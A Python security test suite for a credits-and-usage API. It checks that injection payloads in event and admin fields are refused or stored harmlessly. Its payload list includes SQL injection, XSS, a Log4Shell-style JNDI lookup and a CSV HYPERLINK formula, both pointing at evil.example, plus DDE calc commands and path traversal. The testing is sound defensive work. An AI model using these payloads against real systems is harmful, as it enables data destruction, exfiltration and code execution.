"""Events and commands whose fields try injection: SQL, COPY and parameter syntax, HTML/JS for
the dashboard, spreadsheet formulas for the CSV export, control and bidi characters, the
longest allowed strings, and what Postgres cannot store (U+0000, lone surrogates).

Through the API (`injection`, in the catalog): usage events via `POST /v1/events` and admin
commands carry each payload in every free-text field. Each must end either refused (422, nothing
published) or stored verbatim: read back byte for byte through the customer API, with the
balance's arithmetic intact, the writer still applying what follows, and a bystander account, in
the same batch, unharmed and seeing none of it. The dashboard must only ever render text.
tests/integration/test_attacks_injection.py adds what needs Kafka and Postgres directly: raw
records (bad keys, bad bytes), dead-letter codes, and the CSV export.
"""

from __future__ import annotations

import json
import re
from datetime import UTC, datetime
from typing import Any

from tests.attacks.probe import (
    Api,
    Customer,
    ingest,
    ledger,
    new_customer,
    short,
    submit,
    wait_applied,
    wait_ledger,
)

# Stored verbatim and harmless, in every free-text field.
PAYLOADS: dict[str, str] = {
    "sql-quote": "x'); DROP TABLE ledger_entries; --",
    "sql-or": "' OR '1'='1' /*",
    "sql-sleep": "1; SELECT pg_sleep(10); --",
    "copy-text": "tab\there\\.\nnewline\\N",
    "placeholders": "$1 $2 %s %(x)s {0} ${jndi:ldap://evil.example/a}",
    "html-script": "<script>alert('xss')</script>",
    "html-img": '"><img src=x onerror=alert(1)>',
    "js-url": "javascript:alert(document.cookie)",
    "csv-equals": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "csv-plus": "+cmd|' /C calc'!A0",
    "csv-minus": "-2+3+cmd|' /C calc'!A0",
    "csv-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "csv-tab": "\t=1+1",
    "csv-cr": "\r=1+1",
    "bidi": "scan\u202egpj.exe",
    "zero-width": "a\u200bb\ufeffc\u2060d",
    "ansi": "\x1b[31mred\x1b[0m\x1b]0;title\x07",
    "controls": "bell\x07back\x08vt\x0bff\x0cdel\x7f",
    "newlines": "line1\nline2\r\nline3\u2028line4\u2029line5",
    "astral": "💥 𝕊 ﷽ \U0010fffd",
    "json-break": '"}],"balance":999999,"x":[{"',
    "backslashes": '\\\\ \\" \\u0000 \\x00',
    "path": "../../../etc/passwd",
    "long": "L" * 128,
}
# Refused at the door (422), never published: Postgres text cannot hold them, or too long.
REFUSED: dict[str, str] = {
    "nul": "a\x00b",
    "lone-surrogate": "a\ud800b",
    "too-long": "T" * 257,  # past request_id's and key_id's 128, and endpoint's 256
}
# What the dashboard's script must never do with data: parse it as markup or code.
MARKUP_SINKS = re.compile(
    r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|\beval\(|new Function|setHTML"
)


def _event(account: str, request_id: str, text: str, credits: int = 1) -> dict[str, Any]:
    return {"request_id": request_id, "account_id": account, "key_id": text[:128],
            "endpoint": text[:256] or "x", "status_code": 200,
            "occurred_at": datetime.now(UTC).isoformat(), "credits": credits}  # fmt: skip


def _request_id(index: int, text: str) -> str:
    return f"{index}:{text}"[:128]


async def injection(api: Api) -> str:
    victim, bystander = await new_customer(api, "atk_inj"), await new_customer(api, "atk_inj2")
    grant = await submit(api, victim.account_id, "grants", {"amount": 1000})
    await submit(api, bystander.account_id, "grants", {"amount": 50})
    await wait_applied(api, victim.account_id, grant)
    await wait_ledger(api, bystander, 1)
    await _refused(api, victim)
    await _events(api, victim, bystander)
    await _commands(api, victim)
    await _dashboard(api)
    return f"{len(PAYLOADS)} payloads stored verbatim, {len(REFUSED)} refused; nothing leaked"


async def _refused(api: Api, victim: Customer) -> None:
    """NUL, lone surrogates and overlong ids: 422 at ingest and at the admin API."""
    for name, text in REFUSED.items():
        for field in ("request_id", "endpoint", "key_id"):
            event = {**_event(victim.account_id, f"refused-{name}", "ok"), field: text}
            body = json.dumps({"events": [event]}).encode()  # ensure_ascii: "\ud800" as JSON
            answer = await api.probe(
                "POST",
                "/v1/events",
                content=body,
                what=f"{name} {field}",
                headers={**api.admin, "Content-Type": "application/json"},
            )
            api.trial.check(answer.status_code == 422, f"{name} in {field}: {short(answer)}")
        grant = json.dumps({"amount": 1, "name": text[:100], "metadata": {text[:100]: "v"}})
        answer = await api.probe(
            "POST",
            f"/v1/admin/accounts/{victim.account_id}/grants",
            content=grant.encode(),
            what=f"{name} in a grant",
            headers={**api.admin, "Content-Type": "application/json"},
        )
        expected = 202 if name == "too-long" else 422  # 100 characters are within bounds
        api.trial.check(answer.status_code == expected, f"{name} in a grant: {short(answer)}")


async def _events(api: Api, victim: Customer, bystander: Customer) -> None:
    """One batch: every payload in A's events, and one plain event of the bystander's."""
    events = [
        _event(victim.account_id, _request_id(i, text), text)
        for i, text in enumerate(PAYLOADS.values())
    ]
    api.trial.tried += len(events)
    await ingest(api, [*events, _event(bystander.account_id, "bystander-1", "POST /plain")])
    sentinel = _event(victim.account_id, "sentinel", "POST /sentinel")
    await ingest(api, [sentinel])
    # grant, the "too-long" grant of _refused, every payload, the sentinel
    entries = await wait_ledger(api, victim, 2 + len(events) + 1)
    by_source = {e["source"]: e for e in entries}
    for event in events:
        entry = by_source.get("request:" + event["request_id"])
        what = f"event {event['request_id'][:30]!r}"
        if not api.trial.check(entry is not None, f"{what}: no entry with its exact source"):
            continue
        assert entry is not None
        metadata = entry["metadata"]
        same = (metadata.get("endpoint"), metadata.get("key_id")) == (
            event["endpoint"],
            event["key_id"],
        )
        api.trial.check(same, f"{what}: stored as {metadata}")
        api.trial.check(entry["delta"] == -1, f"{what}: delta {entry['delta']}")
    fresh = {"min_seq": max(e["seq"] for e in entries)}  # the read models may trail the ledger
    balance = await api.setup("GET", "/v1/credits/balance", params=fresh, headers=victim.headers)
    expected = 1000 + 1 - len(events) - 1
    api.trial.check(
        balance.json()["balance"] == expected, f"balance {balance.json()} not {expected}"
    )
    await _usage_verbatim(api, victim, events, fresh)
    await _bystander_unharmed(api, bystander)


async def _usage_verbatim(
    api: Api, victim: Customer, events: list[dict[str, Any]], fresh: dict[str, int]
) -> None:
    usage = await api.setup("GET", "/v1/usage", params={"group_by": "endpoint", **fresh},
                            headers=victim.headers)  # fmt: skip
    keys = {row["key"] for row in usage.json()["rows"]}
    missing = [e["endpoint"][:30] for e in events if e["endpoint"] not in keys]
    api.trial.check(not missing, f"usage rows lost or altered endpoints {missing}")


async def _bystander_unharmed(api: Api, bystander: Customer) -> None:
    entries = await wait_ledger(api, bystander, 2)
    api.trial.check(
        [e["delta"] for e in entries] == [-1, 50], f"the bystander's ledger is {entries}"
    )
    fresh = {"min_seq": max(e["seq"] for e in entries)}
    for path in ("/v1/credits/ledger", "/v1/usage", "/v1/credits/grants", "/v1/account/summary"):
        answer = await api.probe("GET", path, params=fresh, headers=bystander.headers)
        api.trial.check(answer.status_code == 200, f"bystander {path}: {short(answer)}")
        seen = [n for n, text in PAYLOADS.items() if len(text) > 6 and text in answer.text]
        api.trial.check(not seen, f"bystander {path} shows {seen}")


async def _commands(api: Api, victim: Customer) -> None:
    """Every payload as a grant's name, source and metadata, and as an adjustment's reason."""
    account = victim.account_id
    last = ""
    for i, text in enumerate(PAYLOADS.values()):
        body = {"amount": 1, "name": text, "source": text,
                "metadata": {f"k{i}{text}"[:100]: text}}  # fmt: skip
        api.trial.tried += 2
        await submit(api, account, "grants", body)
        last = await submit(api, account, "adjustments", {"amount": -1, "reason": text})
    await wait_applied(api, account, last)
    entries = await ledger(api, victim, reason="grant")
    sources = {e["source"] for e in entries}
    lost = [name for name, text in PAYLOADS.items() if text not in sources]
    api.trial.check(not lost, f"grant sources not stored verbatim: {lost}")
    seq = max(e["seq"] for e in await ledger(api, victim))
    names = {g.get("name") for g in await _all_grants(api, victim, seq)}
    lost = [name for name, text in PAYLOADS.items() if text not in names]
    api.trial.check(not lost, f"grant names not stored verbatim: {lost}")


async def _all_grants(api: Api, customer: Customer, min_seq: int) -> list[dict[str, Any]]:
    found: list[dict[str, Any]] = []
    params: dict[str, Any] = {"limit": 25, "min_seq": min_seq}
    while True:
        page = await api.setup("GET", "/v1/credits/grants", params=params,
                               headers=customer.headers)  # fmt: skip
        found += page.json()["data"]
        if not page.json()["nextPage"]:
            return found
        params = {**params, "next_page": page.json()["nextPage"]}


async def _dashboard(api: Api) -> None:
    """The page renders data as text only, under a CSP that forbids inline script."""
    page = await api.probe("GET", "/dashboard")
    policy = page.headers.get("content-security-policy", "")
    script_src = re.search(r"script-src ([^;]*)", policy)
    strict = script_src is not None and "unsafe" not in script_src.group(1)
    api.trial.check(strict, f"the dashboard's CSP allows inline or eval'd script: {policy!r}")
    api.trial.check(page.headers.get("x-content-type-options") == "nosniff", "no nosniff")
    script = await api.probe("GET", "/dashboard/static/app.js")
    sinks = MARKUP_SINKS.findall(script.text)
    api.trial.check(not sinks, f"the dashboard's script writes markup: {sinks}")
